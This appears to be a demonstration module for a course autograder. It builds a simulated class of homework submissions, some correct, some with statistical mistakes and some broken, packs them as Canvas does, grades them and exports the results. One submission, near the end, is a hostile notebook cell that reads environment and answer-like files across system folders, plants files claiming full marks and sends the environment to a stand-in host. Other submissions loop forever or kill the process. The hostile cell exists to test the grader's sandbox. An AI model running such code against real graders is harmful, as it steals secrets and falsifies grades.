"""A small class for homework 1, from its solution and its known mistakes, graded for real.

Each submission is the zip that a student hands in; all of them are packed as Canvas does.
The archive then goes the whole way: grades, feedback, report, and the file that Canvas imports.
What the table says comes from the results.
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from collections.abc import Callable, Collection, Iterable, Mapping
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

from autograder import course, export, grade, slips, verify
from autograder.course import Homework
from autograder.grade import Progress
from autograder.submissions import Submission
from autograder.verdict import Verdict

HOMEWORK = "hw1"
FOLDER = course.ROOT / "demo"

MISTAKES = {  # name of the submission: name of the slip it holds
    "spread-as-sd": "sd_for_variance",
    "no-division-by-n0": "not_divided_by_n0",
    "icc-as-a-ratio": "icc_as_ratio",
    "raw-means": "no_shrinkage",
    "p-not-halved": "undivided_p",
}

Maker = Callable[[Homework], Submission]

_HANDED_IN = (2027, 2, 1, 10, 0, 0)  # before homework 1 is due


def run(
    folder: Path = FOLDER,
    jobs: int = 2,
    progress: Progress | None = None,
    names: Collection[str] = (),
) -> tuple[list[Verdict], Path]:
    """Pack the class as Canvas does, grade the archive, and write what Canvas imports.

    Parameters
    ----------
    folder
        Is emptied of an earlier demonstration, then holds ``submissions.zip``, ``gradebook.csv``
        and ``graded/``.
    jobs
        Number of processes.
    progress
        Told of each result.
    names
        Members of the class to grade; all of them by default.

    Returns
    -------
    The verdicts, and the folder of the results.

    Raises
    ------
    CourseError
        Where there is no sandbox: some of these submissions mean harm.
    """
    homework = course.homework(HOMEWORK)
    graded = folder / "graded"
    shutil.rmtree(graded, ignore_errors=True)
    folder.mkdir(parents=True, exist_ok=True)
    chosen = {name: make for name, make in students().items() if not names or name in names}
    members = {name: make(homework) for name, make in chosen.items()}
    archive, book = pack(members, homework, folder)
    verdicts = grade.grade(
        HOMEWORK, archive, graded, jobs=jobs, limits=short_limits(), progress=progress
    )
    export.export(graded, "canvas", book)
    return verdicts, graded


def pack(members: Mapping[str, Submission], homework: Homework, folder: Path) -> tuple[Path, Path]:
    """Write a class as Canvas gives it out: ``submissions.zip`` and ``gradebook.csv``.

    Each member, by name, has the id that `canvas_ids` gives.
    """
    archive, book = folder / "submissions.zip", folder / "gradebook.csv"
    title = f"HW{homework.number}: {homework.title} (4711)"
    lines = [f"Student,ID,SIS User ID,SIS Login ID,Section,{title}", "    Points Possible,,,,,"]
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        for name, label in canvas_ids(members).items():
            user = label.rpartition("_")[2]
            lines.append(f"{name.replace('-', ' ').title()},{user},s{user},u{user},A,")
            entry = f"{label}_9{user}_{homework.id}-submission.zip"
            out.writestr(zipfile.ZipInfo(entry, _HANDED_IN), exported(members[name], homework))
    book.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return archive, book


def canvas_ids(names: Iterable[str]) -> dict[str, str]:
    """Id of each member's submission: the name as Canvas squeezes it, and the user's number.

    Examples
    --------
    >>> canvas_ids(["all-right", "crash"])
    {'all-right': 'allright_101', 'crash': 'crash_102'}
    """
    return {name: f"{name.replace('-', '')}_{101 + place}" for place, name in enumerate(names)}


def students() -> dict[str, Maker]:
    """The class by name: honest, mistaken, broken and hostile."""
    return {
        "all-right": verify.solution,
        "untouched": verify.untouched,
        **{name: partial(mistake, name=slip) for name, slip in MISTAKES.items()},
        "two-tasks-only": _only_two_tasks,
        "endless-loop": _endless_loop,
        "crash": _crash,
        "typing-error": _typing_error,
        "burglar": _burglar,
    }


def short_limits() -> course.Limits:
    """Limits that are ample for homework 1 and keep the demonstration short."""
    return replace(course.load().limits, cell_seconds=15, ask_seconds=6, notebook_seconds=150)


def mistake(homework: Homework, name: str) -> Submission:
    """The solution with the first slip of that name in it."""
    found = (
        slip
        for quantity in slips.load(homework.id).QUANTITIES
        for slip in quantity.slips
        if slip.name == name
    )
    return verify.slip_submission(homework, next(found))


def write_export(submission: Submission, homework: Homework, path: Path) -> None:
    """Write a submission as the archive that the notebook's last cell makes."""
    path.write_bytes(exported(submission, homework))


def exported(submission: Submission, homework: Homework) -> bytes:
    """The archive that the notebook's last cell makes."""
    files = {f"{homework.id}.ipynb": submission.notebook or b""}
    if submission.module is not None:
        files[f"hlmtools/{homework.module}.py"] = submission.module
    files["__zip_filename__"] = f"{homework.id}-submission.zip".encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in files.items():
            out.writestr(zipfile.ZipInfo(name, _HANDED_IN), content)
    return buffer.getvalue()


# ------------------------------------------------------------------------------ broken, hostile


def with_cell(submission: Submission, before: str, code: str) -> Submission:
    """A submission with a code cell put before the check cell of a question."""
    notebook = json.loads(submission.notebook or b"")
    cells: list[dict[str, Any]] = notebook["cells"]
    check = f'grader.check("{before}")'
    place = next(i for i, cell in enumerate(cells) if check in "".join(cell["source"]))
    cell = {"cell_type": "code", "id": f"own-{before}", "metadata": {}, "outputs": []}
    cells.insert(place, {**cell, "execution_count": None, "source": code})
    return replace(submission, notebook=json.dumps(notebook).encode())


def with_module(submission: Submission, change: Callable[[str], str]) -> Submission:
    """A submission with the text of its student module changed."""
    text = (submission.module or b"").decode()
    return replace(submission, module=change(text).encode())


def _only_two_tasks(homework: Homework) -> Submission:
    """The solution's module cut off: later functions are those of the stub."""
    solved, blank = verify.solution(homework), verify.untouched(homework)
    head = "\ndef vc_deviance("

    def change(text: str) -> str:
        return text.split(head)[0] + head + (blank.module or b"").decode().split(head)[1]

    return with_module(solved, change)


def _endless_loop(homework: Homework) -> Submission:
    return with_cell(verify.solution(homework), "task1_6", "while True:\n    eb_8367 = 0")


def _crash(homework: Homework) -> Submission:
    body = '    """Ends the process instead of answering."""\n    import os\n\n    os._exit(1)\n'

    def change(text: str) -> str:
        head, rest = text.split("\ndef coverage_range(", 1)
        signature = rest.split("\n", 1)[0]
        return f"{head}\ndef coverage_range({signature}\n{body}"

    return with_module(verify.solution(homework), change)


def _typing_error(homework: Homework) -> Submission:
    def change(text: str) -> str:
        return text.replace("\ndef fit_vc(", "\ndef fit_vc((", 1)

    return with_module(verify.solution(homework), change)


def _burglar(homework: Homework) -> Submission:
    return with_cell(verify.untouched(homework), "task1_1", _BURGLARY)


_BURGLARY = """\
import os, pathlib, socket

places = [os.getcwd(), "/work", "/judge", "/tmp", "/home", "/root", "/proc/1", "/proc/self"]
for folder in places:
    for where, _, names in os.walk(folder):
        for name in names:
            if name == "environ" or name.startswith(("task1_", "hw1")):
                try:
                    print(where, name, open(f"{where}/{name}", errors="replace").read())
                except OSError as error:
                    print(error)
for folder in (*places, "/", "/etc", "/usr", "/dev/shm", "../../.."):
    try:
        pathlib.Path(folder, "burglar-was-here").write_text("40 of 40")
    except OSError as error:
        print(error)
socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(repr(dict(os.environ)).encode())
"""
